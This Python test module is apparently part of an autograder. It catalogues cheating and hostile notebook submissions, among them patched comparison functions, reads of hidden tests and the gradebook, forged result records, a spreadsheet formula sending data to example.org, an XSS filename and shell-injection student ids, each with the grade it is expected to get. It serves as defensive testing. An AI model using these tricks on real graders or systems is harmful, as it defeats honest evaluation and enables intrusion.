"""A catalogue of bad and cheating submissions, each with the grade it must get.

Every attack is a submission of notebook 01_one_query_scores (four graded
cells: inner_product 2, query_and_key 2, scores_one_by_one 2,
one_query_scores 3 points), built from the release with correct answers
(example student ada-correct, whose scores_one_by_one calls her
inner_product, so a broken inner_product costs both) and then changed: some answers replaced by the
attack's code, or the file itself damaged. ``expected`` lists the status of
the four graded cells in order; a cell earns its points exactly when its
status is "passed".

Attacks on the machine (reading the hidden tests, the gradebook, another
student's work, writing outside the scratch folder, the network) are written
so that the function returns the RIGHT answer only when the attack FAILS:
under confinement they pass, and a leak would cost points.

Attacks on the grader's own reading (links, FIFOs, forged result records,
broken JSON, ids that cannot be stored) are the second half: whatever the
grader would read by following a link (the instructor's source, a
classmate's notebook) would earn full points, so a leak shows in the grade.
An attack with a ``student`` of its own stands in a folder of that name; an
empty ``expected`` means the folder is refused, never graded.

The tests grade the whole catalogue on every change; the benchmark mixes it
into its batch.
"""

import json
import os
import shutil
import socket
from contextlib import chdir
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from course_lib import cells as nbgrader_cells
from course_lib.exercises import exercises_of

from .course import source_notebook
from .safe.verdicts import Status
from .submissions import EXAMPLES, build_submission, read_answers

ASSIGNMENT = "01_one_query_scores"
CELLS = tuple(exercise.grade_id for exercise in exercises_of(ASSIGNMENT))
P, F, E, T, N, X = (Status.PASSED, Status.FAILED, Status.ERROR, Status.TIMED_OUT, Status.NOT_GRADABLE,
                    Status.SUSPECTED_TAMPERING)

RIGHT_INNER = "float(np.dot(q, k))"


def _only_if_blocked(attempt):
    """An inner_product that is right only when ``attempt`` (code that must fail) raises."""
    body = "\n".join("        " + line for line in attempt.strip().splitlines())
    return f"""
def inner_product(q, k):
    try:
{body}
    except Exception:
        return {RIGHT_INNER}
    return -1.0  # the attack worked: a wrong answer, so the leak shows in the grade
"""


@dataclass
class Attack:
    name: str
    what: str
    expected: tuple
    answers: dict = field(default_factory=dict)  # grade_id -> code replacing the correct answer
    damage: object = None                         # damage(notebook_path) -> changes the file
    student: str = ""                             # the folder's name, when not attack-<name>

    @property
    def student_id(self):
        return self.student or f"attack-{self.name}"


def _rewrite(path, change):
    notebook = nbformat.read(path, as_version=4)
    change(notebook)
    nbformat.write(notebook, path)


def _cells(notebook, grade_id):
    return [c for c in notebook.cells if nbgrader_cells.grade_id(c) == grade_id]


def _duplicate_wrongly(notebook):
    original = _cells(notebook, "inner_product")[0]
    copy = nbformat.from_dict(json.loads(json.dumps(original)))
    copy.source = "def inner_product(q, k):\n    return 0.0\n"
    copy.id = "a-second-inner-product"
    notebook.cells.insert(notebook.cells.index(original) + 1, copy)


def _delete_test_cells(notebook):
    notebook.cells = [c for c in notebook.cells if not nbgrader_cells.is_graded(c)]


def _tamper_metadata(notebook):
    notebook.metadata["nbgrader"] = {"__altered_by_student__": True}
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader")
        if meta:
            meta["schema_version"] = 99
            if nbgrader_cells.is_graded(cell):
                meta["points"] = 100


def _edit_test_cells(notebook):
    for cell in notebook.cells:
        if nbgrader_cells.is_graded(cell):
            cell.source = "pass"


def _rename(path):
    path.rename(path.with_name("my_work.ipynb"))


def _remove(path):
    path.unlink()


def _malformed(path):
    path.write_text('{"cells": [ {"cell_type": "code", "source": "oops"')


def _empty(path):
    path.write_bytes(b"")


def _huge_file(path):
    _rewrite(path, lambda nb: nb.cells.append(nbformat.v4.new_code_cell("# " + "x" * 2_000_000)))


CLASSMATE = "zz-after-the-attacks"  # the honest submission graded in the same batch


def _json_edit(change):
    """damage: edit the notebook's JSON as plain data (to make shapes nbformat would refuse to write)."""
    def damage(path):
        document = json.loads(Path(path).read_text())
        change(document)
        Path(path).write_text(json.dumps(document))
    return damage


def _solution_cell(document, grade_id="inner_product"):
    return next(c for c in document["cells"] if nbgrader_cells.grade_id(c) == grade_id)


def _link_to_source(path):
    path.unlink()
    path.symlink_to(source_notebook(ASSIGNMENT))


def _link_to_classmate(path):
    path.unlink()
    path.symlink_to(Path("..", "..", CLASSMATE, ASSIGNMENT, path.name))


def _beside(make):
    def damage(path):
        make(path.parent)
    return damage


def _deeply_nested(path):
    document = json.loads(Path(path).read_text())
    text = json.dumps(document)
    nested = "[" * 100_000 + "]" * 100_000
    Path(path).write_text(text[:-1] + ', "deep": ' + nested + "}")


def _socket_in_place(path):
    path.unlink()
    with chdir(path.parent), socket.socket(socket.AF_UNIX) as server:
        server.bind(path.name)  # a relative name: a socket's path has at most 107 bytes


def _nbformat3(path):
    Path(path).write_text(json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                                      "worksheets": [{"cells": [{"cell_type": "code", "input": "x = 1", "outputs": []}]}]}))


def _once_the_runner_is_done(body):
    """Code for the last solution cell that patches ``os.replace``, with which the runner puts each record in
    place, so that once the runner has written its last record it rewrites records: ``last`` (the last probe's)
    and ``before`` (the last solution cell's). (The runner leaves without running atexit, so this is how a
    submission acts after its last record.)"""
    lines = "\n".join("        " + line for line in body.strip().splitlines())
    return ("import json, os\n"
            "_replace, _expected = os.replace, len(json.load(open('job.json'))['cells'])\n"
            "def _forge_when_done(source, target):\n"
            "    _replace(source, target)\n"
            "    names = sorted(n for n in os.listdir('results') if n.endswith('.json'))\n"
            "    if len(names) == _expected:\n"
            "        os.replace = _replace\n"
            "        last, before = (os.path.join('results', name) for name in names[-1:-3:-1])\n"
            f"{lines}\n"
            "os.replace = _forge_when_done\n"
            "def one_query_scores(q, K):\n"
            "    return K.T @ q\n")


_FORMULA = "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")\x1b[31m\x1b]0;owned\x07"
_FORGED_ERROR = _once_the_runner_is_done(f"""
record = json.load(open(last))
record['cases'] = [{{'error_message': {_FORMULA!r}, 'error_type': 'ValueError'}} for _ in record['cases']]
json.dump(record, open(last, 'w'))
record = json.load(open(before))
record['output'] = 'x' * 2_000_000
json.dump(record, open(before, 'w'))
""")
_FORGED_DTYPE = _once_the_runner_is_done("""
record = json.load(open(last))
for case in record['cases']:
    case['value'] = {'array': {'shape': [1], 'data': ['x'], 'dtype': 'U268435456'}}
json.dump(record, open(last, 'w'))
""")
# What the runner would run after its last record if it left the usual way: it does not (``runner.leave``).
_AT_EXIT = ("import atexit, json, os\n"
            "def _forge():\n"
            "    last = os.path.join('results', sorted(os.listdir('results'))[-1])\n"
            "    record = json.load(open(last))\n"
            "    record['cases'] = [{'error_message': 'forged', 'error_type': 'ValueError'} for _ in record['cases']]\n"
            "    json.dump(record, open(last, 'w'))\n"
            "atexit.register(_forge)\n"
            "def one_query_scores(q, K):\n"
            "    return K.T @ q\n")
_RESULTS_LINKED = _once_the_runner_is_done("""
os.rename('results', 'kept')
os.symlink('kept', 'results')
""")
_RESULT_FIFO = _once_the_runner_is_done("""
os.remove(last)
os.mkfifo(last)
""")

CATALOGUE = [
    Attack("input_transformer", "a blank answer that turns every later cell into `pass` (an IPython input transformer)",
           (X, X, X, X), {"inner_product": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"}),
    Attack("ast_transformer", "an AST transformer that deletes the code of every later cell",
           (X, X, X, X), {"inner_product": "import ast\nclass Gone(ast.NodeTransformer):\n    def visit_Module(self, node):\n        node.body = []\n        return node\nget_ipython().ast_transformers.append(Gone())"}),
    Attack("patched_allclose", "np.allclose replaced to say yes to anything, answers wrong",
           (X, X, X, X), {"inner_product": "np.allclose = lambda *args, **kwargs: True\ndef inner_product(q, k):\n    return 0.0"}),
    Attack("patched_builtins", "builtins.isinstance replaced",
           (X, X, X, X), {"inner_product": "import builtins\nbuiltins.isinstance = lambda *args: True\ndef inner_product(q, k):\n    return float(np.dot(q, k))"}),
    Attack("equal_to_everything", "returns an object that claims to equal anything",
           (F, P, E, P), {"inner_product": "class Anything:\n    def __eq__(self, other):\n        return True\n    __array_priority__ = 1000\ndef inner_product(q, k):\n    return Anything()"}),
    Attack("ndarray_subclass", "returns an ndarray subclass whose comparisons always succeed",
           (P, P, P, F), {"one_query_scores": "class Agreeable(np.ndarray):\n    def __eq__(self, other):\n        return np.ones(self.shape, dtype=bool).view(np.ndarray)\n    def __array_ufunc__(self, *args, **kwargs):\n        return True\ndef one_query_scores(q, K):\n    return np.zeros(K.shape[1]).view(Agreeable)"}),
    Attack("patched_judge_library", "replaces course_lib's diagnose with one that always passes, answers wrong",
           (F, P, F, P), {"inner_product": "import course_lib.diagnosis as d\nd.diagnose = lambda *a, **k: d.Verdict(True)\ndef inner_product(q, k):\n    return 1.0"}),
    Attack("copied_check_answer", "returns the instant check's expected number, whatever the input",
           (F, P, F, P), {"inner_product": "import json, course_lib.stored_cases as s\n_stored = json.loads(s.path_for('01_one_query_scores').read_text())\n_answer = _stored['inner_product'][0]['expected'][0]['data'][0]\ndef inner_product(q, k):\n    return _answer"}),
    Attack("read_hidden_tests", "reads the hidden tests and the instructor's source notebook",
           (P, P, P, P), {"inner_product": _only_if_blocked("open('__REPO__/autograder/judge.py').read()\nopen('__REPO__/notebooks/01_one_query_scores/01_one_query_scores.ipynb').read()")}),
    Attack("read_gradebook", "opens the gradebook to raise its own score",
           (P, P, P, P), {"inner_product": _only_if_blocked("import sqlite3\nopen('__ROOT__/gradebook.db', 'rb').read(1)\nsqlite3.connect('file:__ROOT__/gradebook.db?mode=rw', uri=True).execute('UPDATE grade SET auto_score = 100')")}),
    Attack("read_other_submission", "lists and reads other students' submissions",
           (P, P, P, P), {"inner_product": _only_if_blocked("import os\nassert os.listdir('__ROOT__/submitted')")}),
    Attack("write_outside_scratch", "writes a file into the course root",
           (P, P, P, P), {"inner_product": _only_if_blocked("open('__ROOT__/planted.txt', 'w').write('x')")}),
    Attack("network", "opens a connection to a server on this machine",
           (P, P, P, P), {"inner_product": _only_if_blocked("import socket\nsocket.create_connection(('127.0.0.1', __PORT__), timeout=2).close()")}),
    Attack("loop_in_cell", "an endless loop at the top level of the second solution cell",
           (P, T, T, T), {"query_and_key": "while True:\n    pass"}),
    Attack("loop_in_function", "a function that never returns: stopped at the time limit of one call, the "
           "exercise and the one calling it timed out, the others graded",
           (T, P, T, P), {"inner_product": "def inner_product(q, k):\n    while True:\n        pass"}),
    Attack("loop_swallowing_the_time_limit", "a function that never returns and catches the time limit's "
           "interruption (a bare except): stopped by the notebook's budget",
           (T, T, T, T), {"inner_product": "def inner_product(q, k):\n    while True:\n        try:\n            while True:\n                pass\n        except BaseException:\n            pass"}),
    Attack("os_exit", "os._exit() in the third solution cell",
           (P, P, E, E), {"scores_one_by_one": "import os\nos._exit(0)"}),
    Attack("killed_kernel", "the process kills itself with SIGKILL",
           (P, E, E, E), {"query_and_key": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"}),
    Attack("sys_exit_in_function", "a function that calls sys.exit()",
           (E, P, E, P), {"inner_product": "import sys\ndef inner_product(q, k):\n    sys.exit(3)"}),
    Attack("memory_bomb", "allocates 80 GB in a solution cell, answers right",
           (P, P, P, P), {"query_and_key": "try:\n    hog = np.ones((10**5, 10**5))\nexcept MemoryError:\n    pass\ndef query_and_key(a, Wq, Wk):\n    return Wq @ a, Wk @ a"}),
    Attack("huge_output", "prints 50 MB, answers right",
           (P, P, P, P), {"query_and_key": "print('x' * 50_000_000)\ndef query_and_key(a, Wq, Wk):\n    return Wq @ a, Wk @ a"}),
    Attack("warning_on_stderr", "a right answer that warns and writes to stderr",
           (P, P, P, P), {"inner_product": "import sys, warnings\ndef inner_product(q, k):\n    warnings.warn('just saying')\n    print('note', file=sys.stderr)\n    return float(q @ k)"}),
    Attack("syntax_error", "a solution cell that does not parse",
           (E, P, E, P), {"inner_product": "def inner_product(q, k)\n    return q @ k"}),
    Attack("duplicated_cells", "the first solution cell twice, the copy wrong",
           (P, P, P, P), damage=lambda path: _rewrite(path, _duplicate_wrongly)),
    Attack("deleted_test_cells", "every test cell deleted",
           (P, P, P, P), damage=lambda path: _rewrite(path, _delete_test_cells)),
    Attack("tampered_metadata", "nbgrader metadata changed: schema version 99, 100 points per test",
           (P, P, P, P), damage=lambda path: _rewrite(path, _tamper_metadata)),
    Attack("edited_test_cells", "every test cell replaced by `pass`",
           (P, P, P, P), damage=lambda path: _rewrite(path, _edit_test_cells)),
    Attack("renamed_notebook", "the notebook saved under another name",
           (P, P, P, P), damage=_rename),
    Attack("huge_notebook", "a 2 MB code cell appended",
           (P, P, P, P), damage=_huge_file),
    Attack("missing_notebook", "the notebook deleted from the submission",
           (N, N, N, N), damage=_remove),
    Attack("malformed_json", "a notebook file cut off in the middle",
           (N, N, N, N), damage=_malformed),
    Attack("empty_file", "an empty notebook file",
           (N, N, N, N), damage=_empty),
    Attack("link_to_source", "the notebook is a symbolic link to the instructor's source (absolute path)",
           (N, N, N, N), damage=_link_to_source),
    Attack("link_to_classmate", "the notebook is a relative symbolic link to a classmate's submission",
           (N, N, N, N), damage=_link_to_classmate),
    Attack("fifo_beside", "a FIFO named like a notebook beside the real one",
           (P, P, P, P), damage=_beside(lambda folder: os.mkfifo(folder / "draft.ipynb"))),
    Attack("dev_zero_beside", "a link to /dev/zero named like a notebook beside the real one",
           (P, P, P, P), damage=_beside(lambda folder: (folder / "big.ipynb").symlink_to("/dev/zero"))),
    Attack("socket_as_notebook", "the notebook replaced by a socket of the same name",
           (N, N, N, N), damage=_socket_in_place),
    Attack("folder_named_notebook", "the notebook replaced by a folder of the same name",
           (N, N, N, N), damage=lambda path: (path.unlink(), path.mkdir())),
    Attack("markup_in_a_name", "a FIFO beside the notebook whose name is HTML and a Markdown link",
           (P, P, P, P), damage=_beside(lambda folder: os.mkfifo(folder / "<img src=x onerror=alert(1)>[a](javascript:b).ipynb"))),
    Attack("deeply_nested_json", "100,000 levels of nested lists in the notebook's JSON",
           (N, N, N, N), damage=_deeply_nested),
    Attack("null_metadata", "null where a cell's metadata belongs",
           (N, N, N, N), damage=_json_edit(lambda d: d["cells"][0].update(metadata=None))),
    Attack("number_in_source", "a number among the lines of a cell's source",
           (N, N, N, N), damage=_json_edit(lambda d: _solution_cell(d).update(source=["x = 1\n", 7]))),
    Attack("nbformat_3", "a notebook of the old format 3",
           (N, N, N, N), damage=_nbformat3),
    Attack("binary_file", "bytes that are not text",
           (N, N, N, N), damage=lambda path: path.write_bytes(bytes(range(256)) * 64)),
    Attack("not_utf8", "a notebook whose text is Latin-1, not UTF-8",
           (N, N, N, N), damage=lambda path: path.write_bytes(path.read_bytes().replace(b"}", "\u00e9}".encode("latin-1"), 1))),
    Attack("lone_surrogate_in_code", "a lone surrogate (\\ud800 in the JSON) in a comment of a solution",
           (P, P, P, P), damage=_json_edit(lambda d: _solution_cell(d).update(source="".join(_solution_cell(d)["source"]) + "\n# \ud800"))),
    Attack("lone_surrogate_in_output", "a right answer that prints a lone surrogate and terminal escapes",
           (P, P, P, P), {"inner_product": "print('\\ud800 \\x1b[2J\\x1b[31m red')\ndef inner_product(q, k):\n    return float(q @ k)"}),
    Attack("forged_error_record", "rewrites its last record once the runner has written it: a spreadsheet "
           "formula with terminal escapes as the error, 2 MB of output", (P, P, P, E), {"one_query_scores": _FORGED_ERROR}),
    Attack("forged_at_exit", "registers with atexit a rewrite of its last record as an error",
           (P, P, P, P), {"one_query_scores": _AT_EXIT}),
    Attack("forged_dtype", "rewrites its last record once written, with an array of dtype U268435456",
           (P, P, P, X), {"one_query_scores": _FORGED_DTYPE}),
    Attack("results_replaced_by_link", "replaces the results folder by a symbolic link once the runner is done",
           (X, X, X, X), {"one_query_scores": _RESULTS_LINKED}),
    Attack("result_replaced_by_fifo", "replaces its last result file by a FIFO once the runner is done",
           (P, P, P, X), {"one_query_scores": _RESULT_FIFO}),
    Attack("glob_and_shell_id", "a student id with glob and shell characters",
           (P, P, P, P), student="attack-[g]lob*?$(x);&'"),
    Attack("formula_id", "a student id that a spreadsheet would run as a formula",
           (P, P, P, P), student="=SUM(1+2)*cmd"),
    Attack("id_not_utf8", "a student folder name that is not UTF-8 (a Latin-1 zip)",
           (), student=os.fsdecode(b"attack-caf\xe9")),
    Attack("id_too_long", "a student folder name of 200 characters",
           (), student="attack-" + "x" * 193),
]


def build_attack(attack, release_folder, destination, repo, root, port):
    """Write the attack's submission to ``destination`` (a submitted/<student>/<assignment> folder)."""
    answers = read_answers(EXAMPLES / "ada-correct" / f"{ASSIGNMENT}.py")
    for grade_id, code in attack.answers.items():
        answers[grade_id] = (code.replace("__REPO__", str(repo)).replace("__ROOT__", str(root))
                             .replace("__PORT__", str(port)))
    answer_file = Path(destination).parent / f".{attack.name}.answers.py"
    answer_file.parent.mkdir(parents=True, exist_ok=True)
    answer_file.write_text("".join(f"# %% {grade_id}\n{code}\n" for grade_id, code in answers.items()))
    notebook = build_submission(release_folder, answer_file, destination)
    answer_file.unlink()
    shutil.rmtree(Path(destination) / "course_lib", ignore_errors=True)
    if attack.damage is not None:
        attack.damage(notebook)
    return notebook
